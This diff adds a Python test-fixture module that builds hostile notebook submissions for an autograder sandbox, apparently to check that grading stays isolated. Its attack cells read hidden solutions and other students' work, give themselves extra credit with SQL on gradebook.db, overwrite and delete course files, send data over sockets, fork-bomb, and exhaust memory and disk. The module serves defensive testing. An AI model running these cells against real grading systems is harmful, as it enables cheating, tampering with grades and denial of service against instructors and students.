@@ -1,0 +1,170 @@
+"""Hostile submissions: a perfect quiz plus one cell of code that attacks the grader.
+
+Each attack is what a student could put in an answer notebook to read the answers, change
+grades or harm the instructor's machine at autograde. The sandbox tests grade them and check
+that grades, the gradebook and the course files are unchanged and that the grade export names
+what the code tried. ``{course}``, ``{exchange}``, ``{quiz}``, ``{victim}`` and ``{port}`` are
+filled in with the real paths of the class (the strongest case: a student who guessed them).
+
+    for attack in ATTACKS.values():
+        files = attack.submission(quiz, released, course=..., exchange=..., victim=..., port=...)
+"""
+
+import textwrap
+from dataclasses import dataclass
+
+import nbformat
+
+from painlab.devtools.synthetic import Builder
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    code: str
+    where: str  # "first": before every answer; "after-test": after the first test; "last"
+    reason: tuple[str, ...]  # words the export's reason must contain (any one of them)
+    description: str
+
+    def cell_source(self, **places) -> str:
+        return textwrap.dedent(self.code).strip().format(**places) + "\n"
+
+    def submission(self, quiz, released, **places) -> dict[str, bytes]:
+        builder = Builder(quiz, released)
+        nb = builder.perfect()
+        cell = nbformat.v4.new_code_cell(self.cell_source(quiz=quiz.name, **places))
+        if self.where == "first":
+            position = 0
+        elif self.where == "after-test":
+            position = builder.index(nb, quiz.auto_questions[0].grade_id) + 1
+        else:
+            position = len(nb.cells)
+        nb.cells.insert(position, cell)
+        return builder.files(nb)
+
+
+_WALK_UP = """
+import glob, pathlib
+here = pathlib.Path.cwd()
+"""
+
+ATTACKS = {a.name: a for a in [
+    Attack("read-source", _WALK_UP + """
+found = []
+for parent in [here, *here.parents]:
+    found += glob.glob(str(parent / "source" / "*" / "*.ipynb"))
+    found += glob.glob(str(parent / "*" / "source" / "*" / "*.ipynb"))
+found += glob.glob("{course}/source/*/*.ipynb")
+for path in found:
+    print(open(path).read())
+try:
+    print(open("{course}/source/{quiz}/{quiz}.ipynb").read())
+except OSError as problem:
+    print("no source:", problem)
+""", "first", ("read files outside", "list folders outside"),
+           "walks up from its folder and reads every source notebook (solutions, hidden tests)"),
+    Attack("read-others", _WALK_UP + """
+import json
+for pattern in ["{course}/submitted/*/*/*.ipynb", "{course}/graded/*/*/*.ipynb",
+                "{exchange}/*/inbound/*/*.ipynb"]:
+    for path in glob.glob(pattern):
+        text = open(path).read()
+        if "BEGIN HIDDEN TESTS" in text or "score_" in text:
+            print(path, text)
+try:
+    print(open("{course}/submitted/{victim}/{quiz}/{quiz}.ipynb").read())
+except OSError as problem:
+    print("no other student:", problem)
+""", "first", ("read files outside", "list folders outside"),
+           "reads other students' submitted and graded notebooks"),
+    Attack("read-history", """
+print(In)
+print(repr(_ih))
+import inspect, sys
+print([inspect.getsource(f) for f in sys.modules["__main__"].__dict__.values()
+       if inspect.isfunction(f)])
+""", "after-test", ("hidden test",),
+           "prints the kernel's input history, which holds the hidden tests just run"),
+    Attack("write-gradebook", _WALK_UP + """
+import sqlite3
+paths = [str(p / "gradebook.db") for p in here.parents] + ["{course}/gradebook.db"]
+for path in paths:
+    try:
+        db = sqlite3.connect(path)
+        db.execute("UPDATE grade SET auto_score = max_score * 10")
+        db.execute("UPDATE submitted_assignment SET extension = '1 day'")
+        db.commit()
+        print("changed", path)
+    except Exception as problem:
+        print("no gradebook at", path, problem)
+""", "first", ("open a database",), "gives itself extra credit with SQL on gradebook.db"),
+    Attack("write-course", """
+import os
+targets = ["{course}/release/{quiz}/{quiz}.ipynb", "{course}/source/{quiz}/{quiz}.ipynb",
+           "{course}/submitted/{victim}/{quiz}/{quiz}.ipynb", "{course}/nbgrader_config.py",
+           "{exchange}/refractory-pain/outbound/{quiz}/{quiz}.ipynb",
+           "{exchange}/refractory-pain/inbound/planted.ipynb", "planted.txt"]
+for target in targets:
+    try:
+        with open(target, "w") as out:
+            out.write("{{}}")
+        print("wrote", target)
+    except OSError as problem:
+        print("could not write", target, problem)
+try:
+    os.remove("{course}/gradebook.db")
+except OSError as problem:
+    print("could not remove the gradebook", problem)
+""", "first", ("write files outside",),
+           "overwrites release/, the source, another student's submission and the exchange"),
+    Attack("network", """
+import socket, urllib.request
+for address in [("127.0.0.1", {port}), ("1.1.1.1", 80)]:
+    try:
+        socket.create_connection(address, timeout=2).sendall(b"answers")
+        print("connected to", address)
+    except OSError as problem:
+        print("no network to", address, problem)
+try:
+    urllib.request.urlopen("http://example.org/", timeout=2)
+except Exception as problem:
+    print("no web:", problem)
+""", "first", ("use the network",), "sends data to a server on the instructor's machine and out"),
+    Attack("fork-bomb", """
+import os, time
+children = 0
+try:
+    while children < 100_000:
+        if os.fork() == 0:
+            time.sleep(600)
+            os._exit(0)
+        children += 1
+except OSError as problem:
+    print(children, "processes, then:", problem)
+""", "first", ("start processes",), "forks until the machine runs out of processes"),
+    Attack("memory", """
+hog = bytearray(16 * 2**30)
+""", "first", ("MemoryError",), "allocates 16 GB"),
+    Attack("disk-fill", """
+import os
+for folder in [".", "/tmp", os.path.expanduser("~"), "{course}"]:
+    for number in range(200):
+        try:
+            with open(os.path.join(folder, "fill%d.bin" % number), "wb") as out:
+                out.write(b"0" * (64 * 2**20))
+        except OSError as problem:
+            print(folder, number, problem)
+            if number > 10 or "File too large" not in str(problem):
+                break
+""", "first", ("write files outside",), "writes gigabytes into its folder, /tmp, home and the course"),
+    Attack("never-answers", """
+import signal
+signal.signal(signal.SIGINT, signal.SIG_IGN)
+while True:
+    pass
+""", "last", ("stopped answering",), "ignores the interrupt and loops forever"),
+    Attack("stops-itself", """
+import os, signal
+os.kill(os.getpid(), signal.SIGSTOP)
+""", "last", ("stopped answering",), "stops its own kernel, which then never answers"),
+]}
